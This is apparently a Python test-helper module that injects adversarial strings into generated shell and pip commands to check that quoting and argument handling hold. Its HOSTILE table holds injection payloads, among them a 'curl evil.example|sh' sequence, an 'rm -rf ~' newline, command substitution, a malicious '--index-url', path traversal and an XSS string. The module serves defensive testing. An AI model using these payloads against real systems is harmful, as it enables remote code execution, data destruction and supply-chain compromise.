"""Names, paths and versions that a stranger could have chosen, and facts in which they stand."""

from __future__ import annotations

import dataclasses
import re
import shlex
from collections.abc import Callable, Iterator, Mapping
from typing import Any

from wheel_checks.commands import Command, Export, NoCommand, Options, Pipe, Runnable, Step, Unset, WriteFile, shell

HEAD, TAIL = "Qzvj", "jvzQ"
"""Each hostile text holds both: where one of them is in an argument without the other, the text was taken apart.

Four letters each: the names of temporary folders have eight random ones, and held two of them once in two hundred runs.
"""

HOSTILE = {
    "spaces": "Qzvj my folder jvzQ",
    "quotes": "Qzvj'\"jvzQ",
    "substitution": "Qzvj$(touch pwned)`id`${IFS}$HOMEjvzQ",
    "sequence": "Qzvj;curl -s evil.example|sh && x >y &jvzQ",
    "glob": "~Qzvj*?[a]{b,c}!jvzQ",
    "comment": "# Qzvj #jvzQ",
    "newline": "Qzvj\nrm -rf ~\njvzQ",
    "terminal": "Qzvj\r\x1b[2J\x07\x9bjvzQ",
    "bidi": "Qzvj\u202egnp\u2066jvzQ",
    "invisible": "Qzvj\u200b\ufe0f\u034f\xadjvzQ",
    "dash": "-Qzvj-jvzQ",
    "option": "--index-url=Qzvj.evil.example/jvzQ",
    "short option": "-rQzvj.txtjvzQ",
    "two dashes": "-- Qzvj -x jvzQ",
    "workflow command": "::error file=Qzvj::jvzQ",
    "indented workflow command": "\u00a0 ::warning::QzvjjvzQ",
    "old workflow command": "Qzvj##[error]jvzQ",
    "percent": "Qzvj%0A::error::x%250A%0DjvzQ",
    "address": "Qzvj @ https://evil.example/jvzQ.whl",
    "git": "git+https://evil.example/Qzvj.git#jvzQ",
    "climbing": "../../Qzvj/../jvzQ",
    "markup": "Qzvj<img src=x onerror=alert(1)>[a](javascript:x)|@all`|www.evil.example jvzQ",
    "no UTF-8": "Qzvj\udcffjvzQ",
    "NUL": "Qzvj\0jvzQ",
    "long": f"Qzvj{'a b' * 8000}jvzQ",
}


def texts_of(facts: Any) -> Iterator[str]:
    """Every string of the facts, keys of mappings included, in order; duplicates included."""
    if type(facts) is str:
        yield facts
    elif isinstance(facts, Command):
        return  # built before, as other commands are
    elif dataclasses.is_dataclass(facts) and not isinstance(facts, type):
        for field in dataclasses.fields(facts):
            yield from texts_of(getattr(facts, field.name))
    elif isinstance(facts, Mapping):
        for item in facts.items():
            yield from texts_of(item)
    elif isinstance(facts, (tuple, list, set, frozenset)):
        for item in facts:
            yield from texts_of(item)


def with_texts(facts: Any, change: Callable[[str], str]) -> Any:
    """A copy of the facts in which each string is changed; nothing is checked again, as when facts are loaded."""
    if type(facts) is str:
        return change(facts)
    if dataclasses.is_dataclass(facts) and not isinstance(facts, (type, Command)):
        copy = object.__new__(type(facts))
        for field in dataclasses.fields(facts):
            object.__setattr__(copy, field.name, with_texts(getattr(facts, field.name), change))
        return copy
    if type(facts) is dict:
        return {with_texts(key, change): with_texts(value, change) for key, value in facts.items()}
    if isinstance(facts, tuple) and hasattr(facts, "_make"):
        return facts._make(with_texts(item, change) for item in facts)
    if type(facts) in (tuple, list, set, frozenset):
        return type(facts)(with_texts(item, change) for item in facts)
    return facts


def planted(facts: Any, text: str, hostile: str, how: str) -> Any:
    """The facts with ``hostile`` in place of ``text`` ("replaced"), after it ("appended") or, wherever it is a
    part of a string, after that part ("inside").
    """
    if how == "inside":
        return with_texts(facts, lambda found: found.replace(text, text + hostile))
    new = hostile if how == "replaced" else text + hostile
    return with_texts(facts, lambda found: new if found == text else found)


def vectors(step: Step) -> tuple[tuple[str, ...], ...]:
    """The programs of a step with their arguments."""
    match step:
        case Command(argv):
            return (argv,)
        case Export(_, tuple(argv)):
            return (argv,)
        case Pipe(commands):
            return commands
        case Options(program, options):
            return ((*program, *options),)
        case WriteFile(path, lines):
            return (("printf", *lines), ("tee", path))
    return ()


def intended(step: Runnable) -> list[str]:
    """What a shell must make of the step's text."""
    match step:
        case Command(argv, _, folder):
            return ["(", "cd", folder, "&&", *argv, ")"] if folder else [*argv]
        case Export(name, str(value)):
            return ["export", f"{name}={value}"]
        case Export(name, value):
            return ["export", f"{name}=$({shlex.join(value)})"]
        case Unset(names):
            return ["unset", *names]
        case Pipe(commands):
            return [word for argv in commands for word in ("|", *argv)][1:]
        case WriteFile(path, lines, _, as_root):
            return ["printf", "%s\\n", *lines, "|", *["sudo"] * as_root, "tee", path]


def read_by_a_shell(step: Runnable) -> list[str]:
    """The words of the step's text; what is special to a shell and not quoted is a word alone."""
    if isinstance(step, Export) and not isinstance(step.value, str):
        return shlex.split(shell(step))
    lexer = shlex.shlex(shell(step), posix=True, punctuation_chars="()|&;<>")
    lexer.whitespace_split = True
    lexer.commenters = ""
    return list(lexer)


def _names_a_source(word: str, before: str) -> bool:
    """Whether an installer would fetch something that this word names, and not only install into it."""
    if before.startswith("-"):
        return before in {"--index-url", "--extra-index-url", "--find-links", "-f", "-i", "-r", "-c", "-e"}
    return bool(re.match(r"[\w.-]+(\[[^]]*\])?\s*@|[\w+.-]+://|--(extra-)?index-url=|--find-links=", word))


def faults(step: Step, hostile: str) -> Iterator[str]:
    """What this text has brought about in a step: it was taken apart, became an option, or names what is installed."""
    if not isinstance(step, (Options, NoCommand)) and read_by_a_shell(step) != intended(step):
        yield f"{shell(step)!r} is not {intended(step)}"
    start = hostile[: hostile.index(HEAD) + len(HEAD)]
    folders = tuple(hostile[:at] for at, character in enumerate(hostile) if character == "/")  # of a path of this name
    for argv in vectors(step):
        for index, word in enumerate(argv):
            if (HEAD.lower() in word.lower()) != (TAIL.lower() in word.lower()) and not word.endswith(folders):
                yield f"{word!r} of {argv} has a part of a value"
            if start.startswith("-") and word.startswith(start) and "--" not in argv[:index]:
                yield f"{word!r} of {argv} has become an option"
            if "install" in argv and "evil.example" in word and _names_a_source(word, argv[index - 1]):
                yield f"{argv} installs from an address"
